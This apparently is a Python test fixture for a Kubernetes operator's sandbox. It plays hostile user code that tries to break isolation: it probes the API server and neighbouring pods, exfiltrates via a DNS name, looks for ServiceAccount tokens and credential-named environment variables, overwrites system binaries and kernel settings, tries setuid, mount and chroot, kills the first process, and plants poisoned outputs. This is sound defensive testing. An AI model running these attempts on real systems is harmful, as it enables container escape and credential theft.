"""User code that tries what it must not be able to do; ``attack`` chooses what get_model does."""

import contextlib
import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

SECONDS = 2.0
INCOMING = Path("/incoming")


def get_model(attack: str, targets: str = "{}") -> None:
    """Attack; raise with what came of it, or leave something behind and end."""
    addresses: dict[str, str] = json.loads(targets)
    if attack in GROUPS:
        # In the attempts' order, without their names: a message has a limit.
        raise RuntimeError(json.dumps([outcome(act, addresses) for act in GROUPS[attack].values()]))
    LEFT_BEHIND[attack]()


def outcome(act: Callable[[dict[str, str]], object], addresses: dict[str, str]) -> str:
    """Return ``REACHED`` with what was got, or the name of the error that stopped the attack."""
    try:
        return f"REACHED {str(act(addresses))[:60]}"
    except OSError as error:
        return type(error).__name__ if error.errno is None else f"{type(error).__name__} {error.errno}"
    except subprocess.SubprocessError as error:
        return type(error).__name__


def connect(target: str) -> Callable[[dict[str, str]], object]:
    """Return an attack that opens a TCP connection to ``targets[target]``, host:port."""

    def act(addresses: dict[str, str]) -> object:
        host, _, port = addresses[target].rpartition(":")
        with socket.create_connection((host, int(port)), SECONDS) as connection:
            return connection.getpeername()

    return act


def ask_dns(addresses: dict[str, str]) -> object:
    """Send a question for a name that carries data out, and wait for any answer."""
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x07example\x00\x00\x01\x00\x01"
    host, _, port = addresses["dns"].rpartition(":")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(SECONDS)
        asking.sendto(question, (host, int(port)))
        return asking.recv(512)


def listen(addresses: dict[str, str]) -> object:
    """Take the address of the server's clients; it is reached only if somebody else connects."""
    with socket.create_server(("", 8001)) as server:
        server.settimeout(SECONDS)
        return server.accept()[1]


def write(path: str) -> Callable[[dict[str, str]], object]:
    """Return an attack that writes a file; ``*`` in its folder stands for the first that is there."""

    def act(addresses: dict[str, str]) -> object:
        folder, _, name = path.rpartition("/")
        found = sorted(Path("/").glob(folder.lstrip("/"))) or [Path(folder)]
        return (found[0] / name).write_text("planted")

    return act


def listing(path: str) -> Callable[[dict[str, str]], object]:
    """Return an attack that lists a folder that is not among the inputs."""

    def act(addresses: dict[str, str]) -> object:
        return os.listdir(path)

    return act


def call(name: str, *arguments: object) -> Callable[[dict[str, str]], object]:
    """Return an attack by a function of the C library."""

    def act(addresses: dict[str, str]) -> object:
        library = ctypes.CDLL(None, use_errno=True)
        if getattr(library, name)(*arguments) != 0:
            raise OSError(ctypes.get_errno(), name)
        return "done"

    return act


def other_sources(addresses: dict[str, str]) -> object:
    """List the sources of others, which lie beside the own one."""
    found = os.listdir("/repository/.triton-operator/sources")
    if len(found) < 2:
        raise FileNotFoundError(2, "only its own")
    return found


def rest_of_the_claim(addresses: dict[str, str]) -> object:
    """Look beside the data and above it for what lies on its claim."""
    found = [path for path in Path("/data").glob("**/*") if path != Path("/data/data")]
    if not found:
        raise FileNotFoundError(2, "only the data's own folder")
    return found


def environment(addresses: dict[str, str]) -> object:
    """Look for anything that looks like a credential."""
    words = ("TOKEN", "SECRET", "PASSWORD", "CREDENTIAL")
    found = [name for name in os.environ if any(word in name for word in words)]
    if not found:
        raise FileNotFoundError(2, "nothing")
    return found


def sudo(addresses: dict[str, str]) -> object:
    """Run any program of the image that has the setuid bit."""
    for folder in ("/bin", "/usr/bin", "/sbin", "/usr/sbin"):
        for path in Path(folder).iterdir():
            with contextlib.suppress(OSError):
                if path.stat().st_mode & 0o4000 and path.name in ("su", "mount", "newgrp"):
                    return subprocess.run([path, "-c", "id"], check=True, capture_output=True, timeout=5).stdout
    raise FileNotFoundError(2, "no such program")


def read_kernel_log(addresses: dict[str, str]) -> str:
    """Read the kernel's log."""
    library = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)
    if library.klogctl(3, buffer, 64) < 0:
        raise OSError(ctypes.get_errno(), "klogctl")
    return buffer.value.decode(errors="replace")


NEWNS = 0x00020000
GROUPS: dict[str, dict[str, Callable[[dict[str, str]], object]]] = {
    "network": {
        "the API server, by its Service": connect("apiserver"),
        "the API server, by the node": connect("node-apiserver"),
        "the kubelet": connect("kubelet"),
        "a neighbour's server, HTTP": connect("neighbour-http"),
        "a neighbour's server, gRPC": connect("neighbour-grpc"),
        "a neighbour's server, by its pod": connect("neighbour-pod"),
        "the operator's metrics": connect("operator"),
        "DNS over TCP": connect("dns"),
        "DNS over UDP": ask_dns,
        "a listener on the server's port": listen,
    },
    "files": {
        "the ServiceAccount's token": listing("/var/run/secrets/kubernetes.io/serviceaccount"),
        "a credential in the environment": environment,
        "other sources on the claim": other_sources,
        "candidates on the claim": listing("/repository/.triton-operator/candidates"),
        "revisions on the claim": listing("/repository/.triton-operator/revisions"),
        "measurements on the claim": listing("/repository/.triton-operator/measurements"),
        "a file in its own source": write("/repository/.triton-operator/sources/*/planted.py"),
        "a folder on the claim": lambda _: os.mkdir("/repository/.triton-operator/candidates"),
        "the data": write("/data/planted"),
        "the rest of the claim of its data": rest_of_the_claim,
        "a program of the image": write("/usr/bin/python3"),
        "the converters": write("/opt/triton-operator/converters/triton_converters/__init__.py"),
        "a kernel setting": write("/proc/sys/kernel/core_pattern"),
        "a cgroup": write("/sys/fs/cgroup/memory/notify_on_release"),
    },
    "privileges": {
        "uid 0": lambda _: os.setuid(0),
        "a program with the setuid bit": sudo,
        "a device": lambda _: os.mknod("disk", 0o60660, os.makedev(8, 0)),
        "a mount": call("mount", b"/", b"/tmp", None, 4096, None),
        "a mount namespace": call("unshare", NEWNS),
        "chroot": lambda _: os.chroot(".."),
        "the node's clock": lambda _: time.clock_settime(time.CLOCK_REALTIME, 0.0),
        "a kernel module": call("syscall", 313, -1, b"", 0),
        "the kernel's log": read_kernel_log,
    },
}


def end(code: int = 0) -> None:
    """End the process at once, whatever the wrapper expects."""
    sys.stdout.flush()
    os._exit(code)


def say(message: bytes) -> Callable[[], None]:
    """Return an attack that ends with this termination message and this document of the outcome."""

    def act() -> None:
        for path in (Path("/dev/termination-log"), INCOMING / "outcome.json"):
            with contextlib.suppress(OSError):
                path.write_bytes(message)
        end()

    return act


def say_success() -> None:
    """Say that all is well."""
    (INCOMING / "outcome.json").write_text(json.dumps({"reason": None, "message": "", "final": True}))
    end()


def kill_the_wrapper() -> None:
    """Send every signal that may be sent to the first process."""
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGABRT, signal.SIGSEGV):
        with contextlib.suppress(OSError):
            os.kill(1, number)
    end(1)


def leave(make: Callable[[Path], object], name: str = "batches") -> Callable[[], None]:
    """Return an attack that leaves something in place of what the publisher reads, and says that all is well."""

    def act() -> None:
        names = {"inputs": ["INPUT__0"], "outputs": ["OUTPUT__0"], "open_axes": {}, "contradicted": {}}
        (INCOMING / "dump.json").write_text(json.dumps({"names": names, "members": [], "seconds": 1.0}))
        make(INCOMING / name)
        say_success()

    return act


def sparse(path: Path) -> None:
    """A file of a terabyte that takes no space here."""
    path.mkdir()
    with (path / "00000.npz").open("wb") as file:
        file.truncate(2**40)


def many(path: Path) -> None:
    """Twenty thousand files."""
    path.mkdir()
    for number in range(20_000):
        (path / f"{number:05}.npz").touch()


def pickled(path: Path) -> None:
    """A batch that is a pickle."""
    import numpy

    path.mkdir()
    array = numpy.array([print], dtype=object)
    numpy.savez(path / "00000.npz", allow_pickle=True, ids=array)


def linked(path: Path) -> None:
    """A batch that is a link to a file of the publisher's."""
    path.mkdir()
    (path / "00000.npz").symlink_to("/proc/self/environ")


def pipe(path: Path) -> None:
    """A batch that nobody ever writes to."""
    path.mkdir()
    os.mkfifo(path / "00000.npz")


NESTED = b'{"reason": ' + b"[" * 4000
LEFT_BEHIND: dict[str, Callable[[], None]] = {
    "says success": say_success,
    "kills the wrapper": kill_the_wrapper,
    "says nothing": end,
    "says a string of 4 KB": say(b'"' + b"a" * 4000 + b'"'),
    "says deep brackets": say(NESTED),
    "says terminal escapes": say(
        b'{"reason": "UserCodeFailed", "message": "\\u001b]0;owned\\u0007\\u0000", "final": true}'
    ),
    "says NaN": say(b'{"reason": NaN, "message": 1e999, "final": true}'),
    "says a lone surrogate": say(b'{"reason": "UserCodeFailed", "message": "\\ud800", "final": true}'),
    "says a megabyte": say(b'{"reason": "UserCodeFailed", "message": "' + b"a" * 2**20 + b'"}'),
    "says bytes": say(bytes(range(256)) * 16),
    "leaves a link for the batches": leave(lambda path: path.symlink_to("/repository")),
    "leaves a link for a batch": leave(linked),
    "leaves a pipe": leave(pipe),
    "leaves a terabyte": leave(sparse),
    "leaves twenty thousand files": leave(many),
    "leaves a pickle": leave(pickled),
}
